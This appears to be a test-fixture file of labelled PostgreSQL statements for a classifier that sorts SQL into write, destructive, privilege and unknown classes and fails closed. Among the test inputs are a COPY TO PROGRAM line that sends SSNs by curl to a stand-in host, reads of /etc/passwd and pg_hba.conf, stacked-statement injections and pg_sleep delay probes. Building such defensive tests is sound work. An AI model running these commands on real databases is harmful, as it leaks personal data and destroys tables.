# --- updates with WHERE ---
@ write update
UPDATE customers SET city = 'Berlin' WHERE id = 1

@ write update
update orders set total = total * 1.1 where created_at < now() - interval '1 year'

@ write update
update orders o set total = 0 from customers c where c.id = o.customer_id and c.city = 'Paris'

@ write update
update customers set email = lower(email) where email <> lower(email) returning id, email

@ write update
update customers set (city, phone) = ('Rome', null) where id = 2

@ write update
update customers set (city, phone) = (select city, phone from customers where id = 1) where id = 2

@ write update
update orders set total = 0 where id in (select id from orders where total < 0)

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
update orders set total = 1 where current of order_cursor

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
update only customers set city = 'Lyon' where id = 3

@ write update
UPDATE orders SET total = 0 WHERE id = 1 RETURNING old.total AS before, new.total AS after

@ write update
update "public"."customers" set "ssn" = null where "id" = 7

@ write update
uPdAtE orders SeT total = 0 wHeRe id = 1

@ write update
update customers set full_name = 'x; delete from orders' where id = 1

# --- updates without WHERE ---
@ destructive update
UPDATE customers SET ssn = NULL

@ destructive update
update orders set total = total * 1.1

@ destructive update
update orders o set total = 0 from customers c

@ destructive update
UPDATE customers SET card_number = NULL RETURNING id

@ destructive update
update customers set email = 'x@example.com' -- where id = 1

@ destructive update
update customers set city = 'where id = 1'

@ destructive update
/* where id = 1 */ update orders set total = 0

@ destructive update
UPDATE "customers" SET "phone" = '000';

# --- deletes with WHERE ---
@ write delete
DELETE FROM orders WHERE id = 1

@ write delete
delete from orders where created_at < now() - interval '2 years'

@ write delete
delete from orders o using customers c where c.id = o.customer_id and c.city = 'Paris'

@ write delete
delete from customers where id = 3 returning *

@ write delete
delete from orders where customer_id in (select id from customers where email is null)

@ write delete
delete from orders where ctid = '(0,1)'

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
delete from orders where current of c1

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
DELETE FROM ONLY orders WHERE total = 0

@ write delete
delete from orders where id in (7, 14, 21, 28, 35, 42, 49, 56, 63, 70, 77, 84, 91, 98, 105, 112, 119, 126, 133, 140, 147, 154, 161, 168, 175, 182, 189, 196, 203, 210, 217, 224, 231, 238, 245, 252, 259, 266, 273, 280, 287, 294, 301, 308, 315, 322, 329, 336, 343, 350, 357, 364, 371, 378, 385, 392, 399, 406, 413, 420, 427, 434, 441, 448, 455, 462, 469, 476, 483, 490, 497, 504, 511, 518, 525, 532, 539, 546, 553, 560, 567, 574, 581, 588, 595, 602, 609, 616, 623, 630, 637, 644, 651, 658, 665, 672, 679, 686, 693, 700, 707, 714, 721, 728, 735, 742, 749, 756, 763, 770, 777, 784, 791, 798, 805, 812, 819, 826, 833, 840, 847, 854, 861, 868, 875, 882, 889, 896, 903, 910, 917, 924, 931, 938, 945, 952, 959, 966, 973, 980, 987, 994, 1001, 1008, 1015, 1022, 1029, 1036, 1043, 1050, 1057, 1064, 1071, 1078, 1085, 1092, 1099, 1106, 1113, 1120, 1127, 1134, 1141, 1148, 1155, 1162, 1169, 1176, 1183, 1190, 1197, 1204, 1211, 1218, 1225, 1232, 1239, 1246, 1253, 1260, 1267, 1274, 1281, 1288, 1295, 1302, 1309, 1316, 1323, 1330, 1337, 1344, 1351, 1358, 1365, 1372, 1379, 1386, 1393, 1400, 1407, 1414, 1421, 1428, 1435, 1442, 1449, 1456, 1463, 1470, 1477, 1484, 1491, 1498, 1505, 1512, 1519, 1526, 1533, 1540, 1547, 1554, 1561, 1568, 1575, 1582, 1589, 1596, 1603, 1610, 1617, 1624, 1631, 1638, 1645, 1652, 1659, 1666, 1673, 1680, 1687, 1694, 1701, 1708, 1715, 1722, 1729, 1736, 1743, 1750, 1757, 1764, 1771, 1778, 1785, 1792, 1799, 1806, 1813, 1820, 1827, 1834, 1841, 1848, 1855, 1862, 1869, 1876, 1883, 1890, 1897, 1904, 1911, 1918, 1925, 1932, 1939, 1946, 1953, 1960, 1967, 1974, 1981, 1988, 1995, 2002, 2009, 2016, 2023, 2030, 2037, 2044, 2051, 2058, 2065, 2072, 2079, 2086, 2093, 2100)

@ write delete
DeLeTe FrOm "orders" WhErE "id" = 42

# --- deletes without WHERE ---
@ destructive delete
DELETE FROM orders;

@ destructive delete
delete from orders

@ destructive delete
DELETE FROM public.customers

@ destructive delete
delete from orders returning *

@ destructive delete
delete from orders -- where id = 1

@ destructive delete
delete from "orders" as o

@ destructive delete
dElEtE fRoM orders

@ destructive delete
delete from orders /* where id = 1 */

# --- data-modifying CTEs (strongest write decides the kind) ---
@ write delete
WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone

@ destructive delete
WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone

@ write insert
WITH x AS (INSERT INTO orders(customer_id,total,created_at) VALUES (1,1,now()) RETURNING id) SELECT * FROM x

@ write update
with u as (update customers set city = 'Oslo' where id = 2 returning id) select count(*) from u

@ destructive update
with u as (update customers set city = 'Oslo' returning id) select count(*) from u

@ write delete
with moved as (delete from orders where created_at < now() - interval '1 year' returning customer_id, total, created_at) insert into orders (customer_id, total, created_at) select customer_id, total, created_at from moved

@ write delete
with moved as (delete from orders where total = 0 returning customer_id) update customers set city = city where id in (select customer_id from moved)

@ write update
with ins as (insert into customers (full_name) values ('New') returning id) update orders set customer_id = (select id from ins) where id = 1

@ destructive delete
with ins as (insert into customers (full_name) values ('New') returning id) delete from orders

@ write delete
with a as (select max(id) as m from orders), b as (delete from orders where id = (select m from a) returning *) select * from b

@ write delete
with upd as (update orders set total = 0 where id = 1 returning id), del as (delete from orders where id = 2 returning id) select id from upd union all select id from del

@ destructive delete
with del as (delete from orders where id = 2 returning id), upd as (update customers set city = null returning id) select 1

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
with m as (merge into customers c using (select 1 as id) s on c.id = s.id when matched then update set city = 'Oslo' returning c.id) select * from m

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
with m as (merge into customers c using (select 1 as id) s on c.id = s.id when matched then update set city = 'Oslo' returning c.id), i as (insert into orders (customer_id, total, created_at) select id, 0, now() from m returning id) select * from i

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
with m as (merge into customers c using (select 1 as id) s on c.id = s.id when matched then update set city = 'Oslo' returning c.id), d as (delete from orders where id = 5 returning id) select * from d

@ write insert
WITH t AS (SELECT 1 AS one) INSERT INTO orders (customer_id, total, created_at) SELECT one, 1, now() FROM t

@ write delete
with x as (select id from customers where city = 'Paris') delete from orders where customer_id in (select id from x)

@ destructive update
with x as (select id from customers) update orders set total = 0

@ write update
WITH RECURSIVE ids(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM ids WHERE n < 3),
bumped AS (UPDATE orders SET total = total + 1 WHERE id IN (SELECT n FROM ids) RETURNING id)
SELECT count(*) FROM bumped

@ write insert
with "select" as (insert into customers (full_name) values ('Quoted CTE') returning id) select * from "select"

@ write delete
with cleanup as (
  -- remove test orders only
  delete from orders where total = 0 returning id
)
select count(*) from cleanup

# --- MERGE ---
@ write merge
MERGE INTO customers c USING (VALUES (1, 'Berlin')) AS s(id, city) ON c.id = s.id WHEN MATCHED THEN UPDATE SET city = s.city WHEN NOT MATCHED THEN INSERT (id, city) VALUES (s.id, s.city)

@ write merge
merge into orders o using customers c on o.customer_id = c.id when matched and c.city is null then delete

@ write merge
merge into orders o using (select id from customers) c on o.customer_id = c.id when not matched by source then delete

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
merge into customers c using (select 9 as id) s on c.id = s.id when matched then do nothing when not matched then insert (full_name) values ('nine')

@ write merge
MERGE INTO orders AS o
USING (SELECT customer_id, sum(total) AS t FROM orders GROUP BY customer_id) AS s
ON o.customer_id = s.customer_id AND o.id = 1
WHEN MATCHED THEN UPDATE SET total = s.t
RETURNING merge_action(), o.*

# --- TRUNCATE ---
@ destructive truncate
TRUNCATE orders

@ destructive truncate
truncate table orders, customers restart identity cascade

@ destructive truncate
TRUNCATE ONLY orders CONTINUE IDENTITY

@ destructive truncate
truncate public.orders;

@ destructive truncate
tRuNcAtE "orders"

# --- row locks: SELECT ... FOR UPDATE / SHARE ---
@ write select
SELECT * FROM orders WHERE id = 1 FOR UPDATE

@ write select
select * from orders where customer_id = 1 for share

@ write select
select * from customers where id = 2 for no key update

@ write select
select * from customers where id = 2 for key share

@ write select
select * from orders o join customers c on c.id = o.customer_id where o.id = 1 for update of o

@ write select
select * from orders order by id limit 10 for update skip locked

@ write select
select * from orders where id = 1 for update nowait

@ write select
select * from (select * from orders where id = 1 for update) s

@ write select
with locked as (select id from orders where total = 0 for update) select * from locked

@ write select
select id from orders where id = 1 for share of orders nowait

@ write select
SELECT * FROM orders WHERE id = 1 FOR UPDATE;

@ write select
select * from orders
where id = 1
for
update

# --- sequence / lock / notify side effects ---
@ write select
select nextval('orders_id_seq')

@ write select
SELECT setval('customers_id_seq', (SELECT max(id) FROM customers))

@ write select
select pg_advisory_lock(42)

@ write select
select pg_advisory_xact_lock(hashtext('nightly-job'))

@ write select
select pg_try_advisory_lock(1, 2)

@ write select
select pg_notify('orders_changed', 'id=1')

@ write select
select lo_create(0)

@ write select
select lo_unlink(16384)

@ write select
select id, nextval('orders_id_seq') from customers

@ write select
select * from customers where pg_try_advisory_lock(id)

@ write select
select pg_catalog.nextval('public.orders_id_seq'::regclass)

@ write select
SELECT NEXTVAL('orders_id_seq')

@ write select
select "nextval"('orders_id_seq')

@ write select
select (select setval('orders_id_seq', 1, false)) as reset_to

@ write select
with s as (select nextval('customers_id_seq') as id) select id from s

@ write select
select 1 where pg_try_advisory_lock(99)

@ write select
select count(*) from orders where id > 0 and pg_notify('audit', id::text) is not null

# --- delays ---
@ unknown select
select pg_sleep(5)

@ unknown select
SELECT pg_sleep_for('2 seconds')

@ unknown select
select pg_sleep_until(now() + interval '1 second')

@ unknown select
select * from orders where pg_sleep(1) is not null

@ unknown select
select id, pg_sleep(0.1) from customers

@ unknown select
select pg_catalog.pg_sleep(10)

@ unknown select
SELECT CASE WHEN (SELECT count(*) FROM customers) > 0 THEN pg_sleep(3) END

@ unknown select
select "pg_sleep"(1)

# --- administrative, file, remote and dynamic-SQL functions ---
@ privilege select
select pg_read_file('/etc/passwd')

@ privilege select
select pg_read_file('postgresql.conf', 0, 200)

@ privilege select
SELECT pg_read_binary_file('global/pg_control')

@ privilege select
select * from pg_ls_dir('.')

@ privilege select
select pg_stat_file('postgresql.conf')

@ privilege select
select lo_import('/etc/hosts')

@ privilege select
select lo_export(16384, '/tmp/out.bin')

@ privilege select
select * from dblink('dbname=demo', 'select id from customers') as t(id int)

@ privilege select
select dblink_exec('dbname=demo', 'delete from orders')

@ privilege select
select set_config('search_path', 'public', false)

@ privilege select
select set_config('role', 'postgres', true)

@ privilege select
select pg_terminate_backend(pid) from pg_stat_activity where usename = 'app'

@ privilege select
select pg_cancel_backend(12345)

@ privilege select
select pg_reload_conf()

@ privilege select
select pg_rotate_logfile()

@ privilege select
select pg_switch_wal()

@ privilege select
select query_to_xml('select * from customers', true, false, '')

@ privilege select
select table_to_xml('customers', true, false, '')

@ privilege select
select cursor_to_xml('c1', 10, false, false, '')

@ privilege select
SELECT length(pg_read_file('/etc/hostname'))

@ privilege select
select x from (select pg_ls_dir('/') as x) t

@ privilege select
with f as (select pg_read_file('/etc/passwd') as content) select content from f

@ privilege select
SELECT PG_CATALOG.PG_READ_FILE('pg_hba.conf')

@ privilege select
select query_to_xml('delete from orders returning *', true, false, '')

# --- SELECT INTO creates a table ---
@ ddl ddl
SELECT * INTO customers_backup FROM customers

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
select id, total into temp table tmp_big_orders from orders where total > 100

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
select * into unlogged orders_copy from orders

# Valid, but JSqlParser 5.4 cannot take it apart: unknown, so it fails closed.
@ unknown unknown
SELECT c.id INTO TABLE public.cust_ids FROM customers c

# --- DDL ---
@ ddl ddl
CREATE TABLE audit_log (id bigserial primary key, action text not null, at timestamptz default now())

@ ddl ddl
create temp table scratch (id int, note text)

@ ddl ddl
CREATE TEMPORARY TABLE t_orders ON COMMIT DROP AS SELECT * FROM orders

@ ddl ddl
create unlogged table if not exists cache_entries (k text primary key, v jsonb)

@ ddl ddl
create table customers_copy (like customers including all)

@ ddl ddl
create table big_orders as select * from orders where total > 100

@ ddl ddl
create table events (id int, payload jsonb, cents int generated always as ((payload->>'cents')::int) virtual)

@ ddl ddl
CREATE INDEX orders_customer_idx ON orders (customer_id)

@ ddl ddl
create unique index concurrently if not exists customers_email_uq on customers (lower(email))

@ ddl ddl
create index on orders using brin (created_at)

@ ddl ddl
create index orders_big_idx on orders (total) where total > 1000

@ ddl ddl
CREATE VIEW berlin_customers AS SELECT id, full_name FROM customers WHERE city = 'Berlin'

@ ddl ddl
create or replace view order_totals as select customer_id, sum(total) as total from orders group by customer_id

@ ddl ddl
create materialized view mv_daily as select date_trunc('day', created_at) as d, sum(total) from orders group by 1

@ ddl ddl
CREATE SEQUENCE invoice_seq START 1000 INCREMENT 1

@ ddl ddl
create schema if not exists reporting

@ ddl ddl
CREATE FUNCTION order_count(cid int) RETURNS bigint LANGUAGE sql STABLE AS $$ SELECT count(*) FROM orders WHERE customer_id = cid $$

@ ddl ddl
create or replace function purge_orders() returns void language plpgsql as $$ begin delete from orders; end $$

@ ddl ddl
ALTER TABLE customers ADD COLUMN loyalty_points int DEFAULT 0

@ ddl ddl
alter table customers drop column ssn

@ ddl ddl
alter table orders alter column total type numeric(12,2)

@ ddl ddl
alter table orders add constraint orders_total_positive check (total >= 0)

@ ddl ddl
alter table customers rename to clients

@ ddl ddl
ALTER TABLE orders RENAME COLUMN total TO amount

@ ddl ddl
alter table customers enable row level security

@ ddl ddl
alter table if exists orders set (fillfactor = 90)

@ ddl ddl
alter table orders alter column created_at set default now()

@ ddl ddl
alter sequence orders_id_seq restart with 1000

@ ddl ddl
ALTER SEQUENCE customers_id_seq OWNED BY customers.id

@ ddl ddl
alter view order_totals rename to customer_totals

@ ddl ddl
COMMENT ON TABLE customers IS 'Customer master data; contains PII'

@ ddl ddl
comment on column customers.ssn is 'drop table orders; -- not really'

@ ddl ddl
CrEaTe TaBlE "Weird Table" ("select" int, "from" text)

# --- destructive DDL ---
@ destructive ddl
DROP TABLE orders

@ destructive ddl
drop table if exists orders, customers cascade

@ destructive ddl
DROP VIEW IF EXISTS order_totals

@ destructive ddl
drop index orders_customer_idx

@ destructive ddl
DROP INDEX CONCURRENTLY IF EXISTS customers_email_uq

@ destructive ddl
drop schema reporting cascade

@ destructive ddl
drop sequence invoice_seq

@ destructive ddl
DROP FUNCTION IF EXISTS order_count(int)

@ destructive ddl
drop table "public"."customers"

@ destructive ddl
DrOp TaBlE orders

@ destructive ddl
DROP TABLE orders;

@ destructive ddl
/* harmless maintenance */ drop table customers

# --- privileges and roles ---
@ privilege privilege
GRANT SELECT ON customers TO analyst

@ privilege privilege
grant select, insert, update on all tables in schema public to app_rw

@ privilege privilege
grant usage, select on sequence orders_id_seq to app_rw

@ privilege privilege
grant execute on function order_count(int) to reporting

@ privilege privilege
GRANT SELECT (id, city) ON customers TO marketing

@ privilege privilege
grant pg_read_all_data to auditor

@ privilege privilege
grant analyst to alice with admin option

@ privilege privilege
REVOKE ALL ON customers FROM PUBLIC

@ privilege privilege
revoke select on orders from analyst

@ privilege privilege
revoke analyst from alice

@ privilege privilege
CREATE ROLE analyst NOLOGIN

@ privilege privilege
create role app_rw login password 'secret'

@ privilege privilege
create user alice with password 'hunter2' valid until '2030-01-01'

@ privilege privilege
ALTER ROLE alice SUPERUSER

@ privilege privilege
alter role app_rw set statement_timeout = '5s'

@ privilege privilege
alter user alice with password 'new-secret'

@ privilege privilege
DROP ROLE analyst

@ privilege privilege
drop user if exists alice

@ privilege privilege
SET ROLE analyst

@ privilege privilege
set role none

@ privilege privilege
SET LOCAL ROLE app_rw

@ privilege privilege
RESET ROLE

@ privilege privilege
SET SESSION AUTHORIZATION alice

@ privilege privilege
set session authorization default

@ privilege privilege
ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO analyst

@ privilege privilege
alter default privileges for role app_rw revoke all on sequences from public

@ privilege privilege
GrAnT aLl On orders To PuBlIc

# --- procedures ---
@ unknown call
CALL archive_orders(30)

@ unknown call
call public.refresh_stats()

@ unknown call
CALL "Archive"('2024-01-01'::date, true)

@ unknown call
call reporting.rebuild(p_full => true)

# --- COPY, DO and maintenance / session / transaction statements ---
@ unknown unknown
COPY orders TO STDOUT

@ unknown unknown
copy (select * from customers) to stdout with (format csv, header)

@ unknown unknown
COPY customers FROM '/tmp/customers.csv' WITH (FORMAT csv)

@ unknown unknown
copy orders from stdin

@ unknown unknown
COPY (SELECT ssn FROM customers) TO PROGRAM 'curl -X POST --data-binary @- http://collector.invalid/'

@ unknown unknown
copy orders (customer_id, total) to '/tmp/orders.csv'

@ unknown unknown
DO $$ BEGIN DELETE FROM orders; END $$

@ unknown unknown
do language plpgsql $body$ begin raise notice 'hello'; end $body$

@ unknown unknown
do $$ declare r record; begin for r in select id from orders loop perform r.id; end loop; end $$

@ unknown unknown
VACUUM

@ unknown unknown
vacuum (verbose, analyze) orders

@ unknown unknown
VACUUM FULL customers

@ unknown unknown
ANALYZE

@ unknown unknown
analyze verbose orders

@ unknown unknown
ANALYZE customers (city, birth_date)

@ unknown unknown
CLUSTER orders USING orders_pkey

@ unknown unknown
REINDEX TABLE orders

@ unknown unknown
reindex index concurrently orders_pkey

@ unknown unknown
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE

@ unknown unknown
lock orders

@ unknown unknown
PREPARE get_order (int) AS SELECT * FROM orders WHERE id = $1

@ unknown unknown
prepare wipe as delete from orders

@ unknown unknown
EXECUTE get_order(1)

@ unknown unknown
DEALLOCATE get_order

@ unknown unknown
deallocate all

@ unknown unknown
LISTEN orders_changed

@ unknown unknown
NOTIFY orders_changed, 'id=1'

@ unknown unknown
UNLISTEN *

@ unknown unknown
DISCARD ALL

@ unknown unknown
discard plans

@ unknown unknown
BEGIN

@ unknown unknown
begin isolation level serializable read write

@ unknown unknown
START TRANSACTION READ ONLY

@ unknown unknown
COMMIT

@ unknown unknown
ROLLBACK

@ unknown unknown
rollback to savepoint before_cleanup

@ unknown unknown
SAVEPOINT before_cleanup

@ unknown unknown
release savepoint before_cleanup

@ unknown unknown
CHECKPOINT

@ unknown unknown
LOAD 'auto_explain'

@ unknown unknown
SET search_path TO public, pg_catalog

@ unknown unknown
set statement_timeout = '5s'

@ unknown unknown
SET LOCAL work_mem = '64MB'

@ unknown unknown
set time zone 'UTC'

@ unknown unknown
SET TRANSACTION READ WRITE

@ unknown unknown
set session characteristics as transaction read write

@ unknown unknown
RESET search_path

@ unknown unknown
reset all

@ unknown unknown
REFRESH MATERIALIZED VIEW mv_daily

@ unknown unknown
refresh materialized view concurrently mv_daily

@ unknown unknown
SECURITY LABEL FOR selinux ON TABLE customers IS 'system_u:object_r:sepgsql_table_t:s0'

# --- EXPLAIN ANALYZE of writes: classified as the inner statement ---
@ write delete
EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1

@ destructive update
EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0

@ write delete
explain analyze verbose delete from orders where created_at < now() - interval '5 years'

@ write insert
EXPLAIN ANALYZE INSERT INTO orders (customer_id, total, created_at) VALUES (1, 1, now())

@ write update
explain (analyze true) update customers set city = 'Nice' where id = 1

@ destructive delete
explain (analyze, costs off) with d as (delete from orders returning *) select count(*) from d

@ write merge
EXPLAIN ANALYZE MERGE INTO customers c USING (VALUES (1)) AS s(id) ON c.id = s.id WHEN MATCHED THEN DELETE

@ write select
EXPLAIN ANALYZE SELECT * FROM orders WHERE id = 1 FOR UPDATE

@ destructive delete
explain
  analyze
  delete from orders

# --- several statements in one text ---
@ unknown unknown
select 1; select 2

@ unknown unknown
select * from customers; drop table orders

@ unknown unknown
SELECT * FROM orders WHERE id = 1; DELETE FROM orders

@ unknown unknown
begin; delete from orders where id = 1; commit

@ unknown unknown
select 1 /* ; */ ; drop table x

@ unknown unknown
select ';'; select 2

@ unknown unknown
select 1; -- harmless?
drop table orders

@ unknown unknown
select $$;$$; truncate orders

@ unknown unknown
select 'a\'; drop table orders; --'

@ unknown unknown
select 1;
select 2

@ unknown unknown
insert into orders (customer_id, total, created_at) values (1, 1, now()); select currval('orders_id_seq')

@ unknown unknown
SELECT 1;DROP TABLE customers;--

@ unknown unknown
update customers set city = 'x' where id = 1; grant all on customers to public

@ unknown unknown
select 1 -- comment ends here
; delete from orders

@ unknown unknown
/* /* nested */ ; */ select 1; select 2

@ unknown unknown
select * from orders where id = 1; set role postgres

@ unknown unknown
SELECT 'it''s fine'; SELECT pg_sleep(1)

# --- text that does not parse ---
@ unknown unknown
selec * from orders

@ unknown unknown
DR/**/OP TABLE orders

@ unknown unknown
SEL/**/ECT 1

@ unknown unknown
select 'unterminated from orders

@ unknown unknown
select * from orders where (id = 1

@ unknown unknown
SELECT * FROM orders WHERE id = 1)

@ unknown unknown
select * from

@ unknown unknown
select "unterminated from orders

@ unknown unknown
select $$ never closed

@ unknown unknown
/* never closed comment select 1

@ unknown unknown
/* /* */ select 1

@ unknown unknown
SELECT * FORM orders

@ unknown unknown
delete from where id = 1

@ unknown unknown
update orders set where id = 1

@ unknown unknown
drop

@ unknown unknown
\dt

@ unknown unknown
\copy orders to 'orders.csv' csv

@ unknown unknown
select 1 1

@ unknown unknown
select E'it\'s unterminated

# --- empty and comment-only text ---
@ unknown unknown

@ unknown unknown
-- just a comment; drop table orders

@ unknown unknown
/* only a block comment */

@ unknown unknown
/* nested /* block */ comment */

@ unknown unknown
;
